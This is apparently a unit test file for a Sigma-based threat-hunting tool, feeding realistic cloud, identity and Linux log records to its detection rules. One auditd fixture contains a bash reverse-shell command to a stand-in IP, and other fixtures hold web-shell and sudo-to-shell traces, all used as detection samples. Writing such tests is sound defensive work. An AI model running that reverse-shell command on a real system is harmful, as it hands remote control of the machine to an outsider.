"""Our rules meet what the readers make of real-looking records: names and log sources agree."""

import io
import json
from typing import Any

import pytest

from tests.unit.hunt.sigma.probe import APP
from vedette.hunt.sigma.cases import event_of
from vedette.hunt.sigma.matcher import Matcher
from vedette.hunt.sigma.pages import own_rules
from vedette.hunt.sigma.reading import load_rules
from vedette.hunt.source import Skips, Source
from vedette.hunt.sources import formats

MATCHER = Matcher(load_rules(own_rules()))

KUBERNETES = {
    "kind": "Event", "auditID": "a", "stage": "ResponseComplete", "verb": "create",
    "requestURI": "/api/v1/namespaces/shop/pods/x/exec", "user": {"username": "anna"},
    "objectRef": {"resource": "pods", "subresource": "exec", "namespace": "shop", "name": "x"},
    "responseStatus": {"code": 101}, "requestReceivedTimestamp": "2026-03-01T08:00:00.000000Z",
}  # fmt: skip
PRIVILEGED = KUBERNETES | {
    "objectRef": {"resource": "pods", "namespace": "shop", "name": "x"},
    "responseStatus": {"code": 201},
    "requestObject": {"spec": {"containers": [{"name": "a"}, {"securityContext": {"privileged": True}}]}},
}
CLOUDTRAIL = {
    "eventVersion": "1.08", "eventTime": "2026-03-01T08:00:00Z", "eventSource": "cloudtrail.amazonaws.com",
    "eventName": "StopLogging", "awsRegion": "eu-central-1", "sourceIPAddress": "203.0.113.9",
    "userIdentity": {"type": "IAMUser", "userName": "anna"}, "recipientAccountId": "1",
}  # fmt: skip
ROOT = CLOUDTRAIL | {"eventName": "ConsoleLogin", "userIdentity": {"type": "Root"}}
M365 = {
    "CreationTime": "2026-03-01T08:00:00", "Id": "1", "Operation": "New-InboxRule", "RecordType": 1,
    "Workload": "Exchange", "UserId": "anna@corp.example", "OrganizationId": "o", "UserType": 2,
    "Parameters": [{"Name": "ForwardTo", "Value": "x@mail.example"}, {"Name": "Name", "Value": "."}],
}  # fmt: skip
OKTA = {
    "eventType": "user.mfa.factor.reset_all", "published": "2026-03-01T08:00:00.000Z", "uuid": "u",
    "actor": {"alternateId": "desk@corp.example", "type": "User"}, "outcome": {"result": "SUCCESS"},
    "client": {"ipAddress": "203.0.113.9"}, "severity": "WARN", "displayMessage": "Reset",
}  # fmt: skip
GCP = {
    "logName": "projects/p/logs/cloudaudit.googleapis.com%2Factivity", "timestamp": "2026-03-01T08:00:00Z",
    "insertId": "i", "resource": {"type": "service_account"},
    "protoPayload": {
        "@type": "type.googleapis.com/google.cloud.audit.AuditLog",
        "methodName": "google.iam.admin.v1.CreateServiceAccountKey", "serviceName": "iam.googleapis.com",
        "authenticationInfo": {"principalEmail": "anna@corp.example"},
    },
}  # fmt: skip
SIGN_IN = {
    "time": "2026-03-01T08:00:00Z", "category": "SignInLogs", "operationName": "Sign-in activity",
    "resourceId": "/tenants/x/providers/Microsoft.aadiam", "resultType": "0",
    "callerIpAddress": "203.0.113.9",
    "properties": {"riskLevelDuringSignIn": "high", "status": {"errorCode": 0},
                   "userPrincipalName": "anna@corp.example", "id": "i"},
}  # fmt: skip
ALERT = {
    "timestamp": "2026-03-01T08:00:00.000000+0000", "event_type": "alert", "src_ip": "10.0.0.7",
    "src_port": 5, "dest_ip": "203.0.113.9", "dest_port": 443, "proto": "TCP", "flow_id": 1,
    "alert": {"severity": 1, "signature": "s", "signature_id": 1, "action": "allowed",
              "category": "A Trojan"},
}  # fmt: skip
NOTICE = (
    "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tnotice\n"
    "#fields\tts\tnote\tmsg\tsrc\n#types\ttime\tenum\tstring\taddr\n"
    "1772352000.0\tSSH::Password_Guessing\tguessing\t203.0.113.9\n"
)
SHELL = '203.0.113.9 - - [01/Mar/2026:08:00:00 +0000] "GET /uploads/a.php HTTP/1.1" 200 12 "-" "curl"\n'
SUDO = "Mar  1 08:00:00 web1 sudo:     anna : user NOT in sudoers ; TTY=pts/0 ; USER=root ; COMMAND=/bin/sh\n"
AUDITD = (
    "type=SYSCALL msg=audit(1772352000.000:1): arch=c000003e syscall=59 success=yes exit=0 a0=1 ppid=1 pid=2"
    ' auid=1000 uid=33 gid=33 euid=33 comm="bash" exe="/bin/bash" key=(null)\n'
    'type=EXECVE msg=audit(1772352000.000:1): argc=3 a0="bash" a1="-c"'
    ' a2="bash -i >& /dev/tcp/203.0.113.9/443 0>&1"\n'
    'type=PROCTITLE msg=audit(1772352000.000:1): proctitle="bash"\n'
)


def found(text: str, name: str) -> set[str]:
    data = text.encode()
    source = Source(number=0, name=name, size=len(data), open=lambda: io.BytesIO(data))
    skips = Skips()
    form = formats.recognise(source, None, skips)
    assert form is not None
    rules = MATCHER.rules
    return {rules[hit].about.name for event in form.read(source, skips) for hit in MATCHER.match(event)}


@pytest.mark.parametrize(
    ("record", "page"),
    [
        (KUBERNETES, "kubernetes-exec"),
        (PRIVILEGED, "kubernetes-privileged-pod"),
        (CLOUDTRAIL, "aws-trail-stopped"),
        (ROOT, "aws-root-used"),
        (M365, "mail-forwarding-rule"),
        (OKTA, "okta-second-factor-reset"),
        (GCP, "gcp-key-created"),
        (SIGN_IN, "entra-risky-sign-in"),
        (ALERT, "suricata-serious-alert"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_a_record_as_the_service_writes_it_is_found(record: dict[str, Any], page: str) -> None:
    assert found(json.dumps(record) + "\n", "log.json") == {f"{page}.md"}


@pytest.mark.parametrize(
    ("text", "name", "page"),
    [
        (NOTICE, "notice.log", "zeek-notice-attack"),
        (SHELL, "access.log", "web-shell-request"),
        (SUDO, "auth.log", "linux-sudo-refused"),
        (AUDITD, "audit.log", "linux-reverse-shell"),
    ],
    ids=["zeek", "web", "sudo", "auditd"],
)
def test_a_line_as_the_program_writes_it_is_found(text: str, name: str, page: str) -> None:
    assert found(text, name) == {f"{page}.md"}


def test_a_case_is_a_windows_event_or_columns_and_fields() -> None:
    one = event_of({"@log": "sysmon 1", "Image": "C:\\a.exe", "Computer": "PC7.corp"}, APP)
    assert (one.fields["EventID"], one.logsource.category, one.host) == (1, "process_creation", "pc7")
    other = event_of({"@url": "/x", "raw": "y"}, APP)
    assert (other.url, other.fields, other.logsource) == ("/x", {"raw": "y"}, APP)
